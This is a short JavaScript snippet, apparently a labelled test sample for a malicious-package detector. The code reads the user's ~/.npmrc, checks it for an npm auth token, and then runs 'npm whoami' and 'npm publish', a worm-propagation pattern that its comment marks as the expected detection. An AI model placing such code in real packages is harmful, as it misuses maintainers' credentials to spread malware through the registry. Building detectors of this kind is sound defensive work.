const fs = require('fs');
const os = require('os');
const { execSync } = require('child_process');

const rc = fs.readFileSync(`${os.homedir()}/.npmrc`, 'utf8');
if (rc.includes('_authToken')) {
  execSync('npm whoami');
  execSync('npm publish'); // expect: malicious-command/worm-propagation
}
